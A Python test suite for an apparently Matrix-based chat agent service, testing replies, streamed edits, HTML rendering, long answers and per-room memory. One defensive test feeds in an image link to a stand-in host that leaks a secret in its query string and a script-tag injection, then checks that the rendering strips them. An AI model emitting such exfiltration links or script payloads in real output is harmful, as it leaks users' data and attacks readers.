"""First light: a message goes in, an answer comes out, and it looks as it should."""

import json
import re

import pytest

from memtrix_as.testing import ScriptedModel
from tests.rig.chat import Chat
from tests.rig.door import Door
from tests.rig.modes import only
from tests.rig.service import Service
from tests.rig.stage import Stage

KEY, DRAFT = "io.memtrix.id", "io.memtrix.draft"


async def test_hello(chat: Chat, model: ScriptedModel) -> None:
    model.says("Hello! How can I help?")
    await chat.send("hello")
    answer = await chat.answer()
    assert answer.text == "Hello! How can I help?"
    assert answer.sender == chat.agent
    assert KEY in answer.content
    assert model.requests[0].messages[-1] == {"role": "user", "content": "hello"}


@only("direct")
async def test_a_conversation_is_remembered(chat: Chat, model: ScriptedModel) -> None:
    model.says("Hello Ann.", "Your name is Ann.")
    assert await chat.ask("I am Ann.") == "Hello Ann."
    assert await chat.ask("Who am I?") == "Your name is Ann."
    said = [m["content"] for m in model.requests[1].messages if m["role"] != "system"]
    assert said == ["I am Ann.", "Hello Ann.", "Who am I?"]


async def test_the_answer_is_streamed_by_edits(
    stopped: Service, stage: Stage, model: ScriptedModel
) -> None:
    stopped.set("limits.edit_interval", 0.1)
    await stopped.start()
    chat = await stage.chat()
    words = [f"word{n} " for n in range(30)]
    model.says(words, delay=0.05)
    await chat.send("tell me something long")
    first = await chat.draft()
    assert first and "".join(words).startswith(first.rstrip())
    answer = await chat.answer()
    assert answer.text.split() == "".join(words).split()
    assert DRAFT in answer.content, "the first piece is marked as a draft"
    assert len(answer.edits) >= 2, "the draft grows before it is complete"
    lengths = [len(e["content"]["m.new_content"]["body"].rstrip()) for e in answer.edits]
    assert lengths == sorted(lengths)
    last = answer.edits[-1]["content"]
    assert DRAFT not in last and DRAFT not in last["m.new_content"]
    assert len(chat.said()) == 1, "one message, however often it was edited"


@only("direct")
@pytest.mark.parametrize(("limit", "edits"), [("streaming", 0), ("edits_per_message", 3)])
async def test_streaming_can_be_bounded(
    stopped: Service, stage: Stage, model: ScriptedModel, limit: str, edits: int
) -> None:
    stopped.set("limits.edit_interval", 0.05)
    stopped.set(f"limits.{limit}", False if limit == "streaming" else edits - 1)
    await stopped.start()
    chat = await stage.chat()
    words = [f"word{n} " for n in range(25)]
    model.says(words, delay=0.04)
    await chat.send("tell me something long")
    answer = await chat.answer()
    assert answer.text.split() == "".join(words).split()
    assert len(answer.edits) == edits
    assert (DRAFT in answer.content) == bool(edits)


async def test_an_answer_that_ends_while_its_draft_is_on_the_way(
    chat: Chat, door: Door, model: ScriptedModel
) -> None:
    held = door.hold(lambda call: DRAFT.encode() in call.body)
    model.says(["Half an answer", ", and the rest."], hold=True)
    await chat.send("a question")
    await door.catches(held)
    model.release()
    await door.until(lambda: len(held.caught) > 1, "the draft to be sent again")
    door.heal()
    assert await chat.reply() == "Half an answer, and the rest."
    model.says("The fence.")
    assert await chat.ask("ping") == "The fence."
    assert [said.final for said in chat.said()] == [True, True]


@only("direct")
async def test_a_short_answer_needs_no_edit(chat: Chat, model: ScriptedModel) -> None:
    model.says("Yes.")
    await chat.send("is it so?")
    assert (await chat.answer()).edits == ()


async def test_it_is_seen_reading_and_typing(chat: Chat, model: ScriptedModel) -> None:
    model.says("Done thinking.", after=0.6)
    event_id = await chat.send("think about it")
    await chat.human.sees_receipt(chat.room, chat.agent, event_id)
    await chat.human.sees_typing(chat.room, chat.agent)
    assert await chat.reply() == "Done thinking."
    await chat.human.sees_no_typing(chat.room, chat.agent)


@only("direct")
async def test_tables_and_code_become_html(chat: Chat, model: ScriptedModel) -> None:
    model.says("| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nif a < b:\n    print('x')\n```")
    await chat.send("show me")
    answer = await chat.answer()
    assert answer.latest["format"] == "org.matrix.custom.html"
    for piece in (
        "<table>",
        "<th>a</th>",
        "<td>2</td>",
        "<pre><code",
        "language-python",
        "a &lt; b",
    ):
        assert piece in answer.html
    assert "```" in answer.text, "the plain body stays markdown"


@only("direct")
async def test_nothing_remote_is_loaded(chat: Chat, model: ScriptedModel) -> None:
    model.says(
        "![cat](https://evil.example/cat.png?leak=secret) and "
        '<img src="https://evil.example/b.png"> <script>alert(1)</script>'
    )
    await chat.send("a picture of a cat")
    answer = await chat.answer()
    assert "<img" not in answer.html.lower() and "<script" not in answer.html.lower()
    assert not re.search("<[^>]*(src|srcset|background|style)=", answer.html)
    assert "evil.example/cat.png" in answer.text, "the human sees what the model wrote"


@only("direct")
async def test_previews_are_switched_off_where_it_may(service: Service, stage: Stage) -> None:
    chat = await stage.chat(preset="trusted_private_chat")
    state = chat.human.timeline(chat.room).state
    key = ("org.matrix.room.preview_urls", "")
    await chat.until(lambda: key in state, "the state event against previews")
    assert state[key]["content"] == {"disable": True} and state[key]["sender"] == chat.agent


async def test_a_very_long_answer_arrives_whole(chat: Chat, model: ScriptedModel) -> None:
    lines = [f"Line {n}: " + "some words that fill it up, " * 6 for n in range(1150)]
    text = "\n\n".join(line.rstrip() for line in lines)
    assert len(text) > 200_000
    model.says(text)
    await chat.send("tell me everything")
    last = lines[-1].split(":")[0]
    await chat.until(lambda: any(last in r for r in chat.replies()), "the last line")
    said = chat.said()
    assert all(part.final for part in said)
    assert "\n\n".join(part.text.strip("\n") for part in said) == text
    assert max(len(json.dumps(e)) for e in chat.events()) < 65_536
    keys = [part.content[KEY] for part in said]
    assert len(set(keys)) == len(keys) > 3
    model.says("And that was all.")
    assert [await chat.reply() for _ in said] and await chat.ask("more?") == "And that was all."


@only("direct")
async def test_each_room_is_its_own_conversation(
    chat: Chat, stage: Stage, model: ScriptedModel
) -> None:
    model.says("Noted.", "I do not know.")
    other = await stage.chat(chat.human)
    await chat.ask("The password is swordfish.")
    assert await other.ask("What is the password?") == "I do not know."
    assert "swordfish" not in json.dumps(model.requests[1].messages)


@only("direct")
async def test_a_file_is_named_to_the_model(chat: Chat, model: ScriptedModel) -> None:
    model.says("A fine file.")
    await chat.human.send_file(chat.room, "notes.txt", b"some notes", "text/plain", "look at this")
    assert await chat.reply() == "A fine file."
    told = model.requests[0].messages[-1]["content"]
    assert "notes.txt" in told and "text/plain" in told and "look at this" in told
